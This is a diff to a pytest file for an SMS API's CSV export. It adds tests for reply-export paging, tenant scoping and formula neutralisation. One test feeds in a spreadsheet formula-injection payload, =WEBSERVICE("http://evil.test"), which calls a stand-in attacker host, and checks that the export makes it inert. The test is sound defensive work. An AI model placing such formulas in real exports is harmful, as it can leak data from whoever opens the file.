@@ -16,7 +16,7 @@ from fastapi import FastAPI
 from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncEngine
 
-from app.api import status as status_routes
+from app.api import downloads
 from app.api.schemas import StatusOut
 from app.db import users
 from app.rules.scope import Role
@@ -646,7 +646,7 @@ def as_csv_cell(value: Any) -> str:
 async def test_export_has_every_status_the_filters_select_newest_first_across_pages(
     world: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(status_routes, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
+    monkeypatch.setattr(downloads, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
     for i in range(7):
         carrier = "VIVO" if i < 5 else "TIM"
         await world.post("dlr", dlr(f"a-{i}", carrierName=carrier, campaignId=64), "acme")
@@ -707,6 +707,63 @@ async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
     assert row["extraInfo"] == "'@SUM(1+1)"
     assert row["destination"] == "+5511999990000"  # a phone number is no formula
     assert row["campaignId"] == "-7"
+
+
+def iso_ms(epoch_ms: int) -> str:
+    return datetime.fromtimestamp(epoch_ms / 1000, UTC).isoformat()
+
+
+def flattened(mo: dict[str, Any]) -> dict[str, str]:
+    """A /receive/search MO as the export writes it: the MT spread over mt.* columns."""
+    mt = mo.pop("mt") or {}
+    cells = {**mo, **{f"mt.{name}": mt.get(name) for name in ("id", "correlationId")}}
+    cells |= {f"mt.{name}": mt.get(name) for name in ("username", "email")}
+    return {name: as_csv_cell(value) for name, value in cells.items()}
+
+
+async def test_reply_export_has_every_mo_of_the_window_oldest_first_across_pages(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(downloads, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
+    base = 1_764_000_000_000
+    for i in reversed(range(5)):
+        answers = {"mt": {"id": f"m-{i}", "correlationId": f"c-{i}"}} if i % 2 else {}
+        await world.post("mo", mo(f"r-{i}", "acme", base + i * 1000, **answers), "acme")
+    await world.post("mo", mo("r-later", "acme", base + 86_400_000), "acme")
+    await world.post("mo", mo("g-1", "globex", base), "globex")
+    window = {"start": iso_ms(base), "end": iso_ms(base + 60_000)}
+
+    response = await world.get("ana", "/v1/sms/receive/export", **window)
+    search = await world.ok("ana", "/v1/sms/receive/search", **window)
+    header = response.text.split("\r\n", 1)[0].split(",")
+    rows = csv_rows(response)
+
+    assert response.headers["content-disposition"].startswith('attachment; filename="replies-')
+    assert header[-4:] == ["mt.id", "mt.correlationId", "mt.username", "mt.email"]
+    assert [row["id"] for row in rows] == ["r-0", "r-1", "r-2", "r-3", "r-4"]
+    assert rows == [flattened(item) for item in search["messages"]]
+    assert (rows[1]["mt.id"], rows[2]["mt.id"]) == ("m-1", "")
+
+
+async def test_reply_export_is_scoped_and_its_replies_cannot_run_as_formulas(
+    world: World,
+) -> None:
+    await world.post("mo", mo("r-1", "acme", messageText='=WEBSERVICE("http://evil.test")'))
+    await world.post("mo", mo("r-2", "acme", messageText="+55 11 9999-0000"))
+    await world.post("mo", mo("g-1", "globex"), "globex")
+    window = {"start": iso_ms(1473088405588 - 1000)}
+
+    ana = csv_rows(await world.get("ana", "/v1/sms/receive/export", **window))
+    widening = await world.get("ana", "/v1/sms/receive/export", subAccount="globex", **window)
+    backwards = await world.get(
+        "ana", "/v1/sms/receive/export", start="2026-01-02T00:00:00Z", end="2026-01-01T00:00:00Z"
+    )
+
+    assert {row["id"] for row in ana} == {"r-1", "r-2"}
+    texts = {row["id"]: row["messageText"] for row in ana}
+    assert texts == {"r-1": '\'=WEBSERVICE("http://evil.test")', "r-2": "'+55 11 9999-0000"}
+    assert widening.status_code == 403
+    assert (backwards.status_code, backwards.json()["error"]["code"]) == (422, "invalid_window")
 
 
 @pytest.mark.parametrize(
